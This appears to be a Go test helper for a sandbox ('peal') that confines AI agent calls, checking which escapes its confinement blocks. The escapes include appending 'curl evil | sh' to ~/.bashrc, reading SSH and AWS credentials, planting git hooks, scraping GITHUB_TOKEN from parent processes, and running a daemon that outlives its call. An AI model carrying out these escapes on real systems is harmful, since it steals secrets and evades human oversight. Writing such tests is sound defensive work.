// Command escape tries, from inside an agent call or a check, every way out
// of a task that confinement must close, and the work a task legitimately
// does, and writes one line per try to the file ESCAPE_OUT names:
// "blocked NAME", "ESCAPED NAME: how", "ok NAME" or "FAILED NAME: why".
// Tests read the file; what each try touches comes from its environment:
//
//	HOME               the home folder holding the planted secrets
//	ESCAPE_LISTENER    host:port of a listener no call may reach
//	ESCAPE_ALLOWED     host:port of a server the call may reach through the proxy
//	ESCAPE_STATE       peal's state folder
//	ESCAPE_MAIN        the main work tree (when the call works in a worktree)
//	ESCAPE_OTHER       another task's worktree
//	ESCAPE_TRAPS       host:port listeners no call may reach although the
//	                   port is one it may connect to (another loopback
//	                   address, this machine's outside address), separated
//	                   by commas
//	ESCAPE_UDP         host:port of a UDP listener no call may reach
//	ESCAPE_UNIX        a UNIX socket outside the call's tree
//	ESCAPE_LOCK        a file the daemon the program starts (in a session
//	                   of its own, its environment cleared, after a double
//	                   fork, ignoring SIGTERM) holds a lock on for as long
//	                   as it lives: the test sees whether it outlived its
//	                   call
//	ESCAPE_TTY         the terminal peal runs on: the program tries to
//	                   write to it and to push input into it
//	ESCAPE_TCP_ANY     set under confine_tcp = any: the program serves TCP
//	                   and connects to its own server
//	ESCAPE_CONFIG      peal's configuration file
//	ESCAPE_KEY_PREFIX  the start of the model key in peal's environment,
//	                   written backwards: the program looks for the key
//	                   everywhere and tries the call's model endpoint
//	                   (keys.go)
//	ESCAPE_PEER_IN, ESCAPE_PEER_OUT
//	                   FIFOs shared with another call running alongside,
//	                   whose model endpoint the program tries
//	ESCAPE_DAEMON      another program's UNIX socket in a folder calls
//	                   once wrote (a git credential cache's, in ~/.cache)
//	ESCAPE_DGRAM       another program's datagram UNIX socket (as /dev/log)
//	ESCAPE_IPC         "shmkey:msgkey": another program's System V shared
//	                   memory segment and message queue
//	ESCAPE_NETLINK     the port of a process listening on NETLINK_USERSOCK
//	ESCAPE_LISTEN      a folder holding a FIFO "go": the program listens on
//	                   a TCP socket it never bound, writes the port to
//	                   "port" there, and waits for the FIFO's writer (the
//	                   test, which connects from outside) to close it
//
// With the arguments "cli-config …", it tries instead the way through a
// CLI's own configuration (config.go).
package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"peal/internal/gitrepo"
)

var out *os.File

func main() {
	if len(os.Args) == 3 && strings.HasPrefix(os.Args[1], "daemon-") {
		os.Exit(daemonStage(os.Args[1], os.Args[2]))
	}
	if len(os.Args) == 3 && os.Args[1] == "get" {
		// One request through the proxy, quietly: the agent says what it
		// makes of it.
		if viaProxy(os.Args[2]) != nil {
			os.Exit(1)
		}
		return
	}
	f, err := os.OpenFile(os.Getenv("ESCAPE_OUT"), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape: no report file:", err)
		os.Exit(2)
	}
	out = f
	defer f.Close()
	home := os.Getenv("HOME")
	who := "[" + os.Getenv("PEAL_PHASE") + " " + os.Getenv("PEAL_TASK_INDEX") + "] "
	if len(os.Args) > 1 && os.Args[1] == "cli-config" {
		configTries(who, os.Args[2:])
		return
	}

	// What a task must never do.
	escape(who+"write-home", func() error { return appendTo(filepath.Join(home, ".bashrc"), "curl evil | sh\n") })
	escape(who+"read-ssh-key", func() error { return readOK(filepath.Join(home, ".ssh", "id_ed25519")) })
	escape(who+"read-aws", func() error { return readOK(filepath.Join(home, ".aws", "credentials")) })
	escape(who+"list-ssh", func() error { _, err := os.ReadDir(filepath.Join(home, ".ssh")); return err })
	escape(who+"link-to-key", func() error {
		link := fmt.Sprintf("key-link-%d", os.Getpid())
		os.Remove(link)
		if err := os.Symlink(filepath.Join(home, ".ssh", "id_ed25519"), link); err != nil {
			return fmt.Errorf("no link made: %w", err) // cannot even try: counts as an escape
		}
		defer os.Remove(link)
		return readOK(link)
	})
	hooks, common := gitPath("hooks"), gitCommonDir()
	escape(who+"plant-hook", func() error { return appendTo(filepath.Join(hooks, "post-merge"), "#!/bin/sh\ntouch /tmp/pwned\n") })
	escape(who+"write-git-config", func() error { return appendTo(filepath.Join(common, "config"), "[core]\n\thooksPath = /tmp\n") })
	escape(who+"write-git-info", func() error { return appendTo(filepath.Join(common, "info", "attributes"), "* filter=evil\n") })
	escape(who+"see-token", func() error {
		if v := os.Getenv("GITHUB_TOKEN"); v != "" {
			return nil
		}
		return fmt.Errorf("no GITHUB_TOKEN")
	})
	escape(who+"token-of-peal", parentToken)
	escape(who+"connect-listener", func() error {
		c, err := net.DialTimeout("tcp", os.Getenv("ESCAPE_LISTENER"), 5*time.Second)
		if err == nil {
			c.Write([]byte("stolen\n"))
			c.Close()
		}
		return err
	})
	escape(who+"proxy-to-listener", func() error { return viaProxy(os.Getenv("ESCAPE_LISTENER")) })
	if d := os.Getenv("ESCAPE_STATE"); d != "" {
		escape(who+"write-state", func() error { return appendTo(filepath.Join(d, "state.json"), "{}") })
	}
	if d := os.Getenv("ESCAPE_MAIN"); d != "" {
		escape(who+"write-main-tree", func() error { return appendTo(filepath.Join(d, "from-a-worktree.txt"), "x") })
	}
	if d := os.Getenv("ESCAPE_OTHER"); d != "" {
		escape(who+"write-other-worktree", func() error { return appendTo(filepath.Join(d, "from-another-task.txt"), "x") })
	}
	readTries(who, home)
	keyTries(who)

	systemEscapes(who)

	// What a task does.
	work(who+"write-tree", func() error {
		return os.WriteFile(fmt.Sprintf("work-%s-%d.txt", os.Getenv("PEAL_PHASE"), os.Getpid()), []byte("x\n"), 0o644)
	})
	work(who+"write-new-folder", func() error { return os.MkdirAll(filepath.Join("new-folder", "deeper"), 0o755) })
	work(who+"write-temp", func() error {
		f, err := os.CreateTemp("", "work-")
		if err == nil {
			f.Close()
			os.Remove(f.Name())
		}
		return err
	})
	work(who+"git-status", func() error { return git("status", "--porcelain") })
	work(who+"git-diff", func() error { return git("diff", "HEAD") })
	if a := os.Getenv("ESCAPE_ALLOWED"); a != "" {
		work(who+"proxy-to-allowed", func() error { return viaProxy(a) })
	}
	systemWork(who)
}

func dial(network, addr string) error {
	c, err := net.DialTimeout(network, addr, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write([]byte("stolen\n"))
	return err
}

// serveAndDial listens at addr, connects to it and has one byte go round.
func serveAndDial(network, addr string) error {
	ln, err := net.Listen(network, addr)
	if err != nil {
		return err
	}
	defer ln.Close()
	go func() {
		if c, err := ln.Accept(); err == nil {
			io.Copy(c, c)
			c.Close()
		}
	}()
	c, err := net.Dial(network, ln.Addr().String())
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write([]byte{7}); err != nil {
		return err
	}
	_, err = io.ReadFull(c, make([]byte, 1))
	return err
}

// parentToken looks for GITHUB_TOKEN in the environment of each process
// up the line of parents (the agent, peal, what started peal), as /proc
// shows it: root reads any process's, and Landlock alone does not stop a
// process holding CAP_SYS_ADMIN or CAP_PERFMON.
func parentToken() error {
	var last error = fmt.Errorf("no parent")
	for pid := os.Getppid(); pid > 1; {
		env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err != nil {
			last = err
		} else if strings.Contains("\x00"+string(env), "\x00GITHUB_TOKEN=") {
			return nil
		}
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			return err
		}
		// The parent is the second field after the command's parenthesis.
		rest := string(stat[strings.LastIndexByte(string(stat), ')')+1:])
		var state string
		if _, err := fmt.Sscan(rest, &state, &pid); err != nil {
			return err
		}
	}
	return last
}

// escape runs a try that must fail.
func escape(name string, try func() error) {
	if err := try(); err != nil {
		fmt.Fprintf(out, "blocked %s: %s\n", name, oneLine(err))
		return
	}
	fmt.Fprintf(out, "ESCAPED %s\n", name)
}

// work runs a try that must succeed.
func work(name string, try func() error) {
	if err := try(); err != nil {
		fmt.Fprintf(out, "FAILED %s: %s\n", name, oneLine(err))
		return
	}
	fmt.Fprintf(out, "ok %s\n", name)
}

func oneLine(err error) string { return strings.ReplaceAll(err.Error(), "\n", " ") }

func appendTo(path, text string) error {
	os.MkdirAll(filepath.Dir(path), 0o755) // a repository made without git's template has no hooks folder
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o755)
	if err != nil {
		return err
	}
	if _, err := f.WriteString(text); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func readOK(path string) error {
	data, err := os.ReadFile(path)
	if err == nil && len(data) == 0 {
		return fmt.Errorf("empty")
	}
	return err
}

// gitPath and gitCommonDir ask git where the repository keeps its files:
// a worktree's .git is a file.
func gitPath(name string) string {
	o, err := gitrepo.Plain(".").Command("rev-parse", "--path-format=absolute", "--git-path", name).Run(context.Background())
	if err != nil {
		return filepath.Join(".git", name)
	}
	return strings.TrimSpace(o)
}

func gitCommonDir() string {
	o, err := gitrepo.Plain(".").Command("rev-parse", "--path-format=absolute", "--git-common-dir").Run(context.Background())
	if err != nil {
		return ".git"
	}
	return strings.TrimSpace(o)
}

// git runs git in the call's folder, as an agent's tool would.
func git(args ...string) error {
	_, err := gitrepo.Plain(".").Command(args...).Run(context.Background())
	return err
}

// viaProxy asks the proxy the call was given (HTTP_PROXY) for a plain
// HTTP GET of hostport; nil when the answer is 200.
func viaProxy(hostport string) error {
	p := os.Getenv("HTTP_PROXY")
	if p == "" {
		return fmt.Errorf("no proxy given")
	}
	pu, err := url.Parse(p)
	if err != nil {
		return err
	}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu)}}
	res, err := client.Get("http://" + hostport + "/")
	if err != nil {
		return err
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(bufio.NewReader(io.LimitReader(res.Body, 512)))
	if res.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: %s", res.Status, strings.TrimSpace(string(body)))
	}
	return nil
}
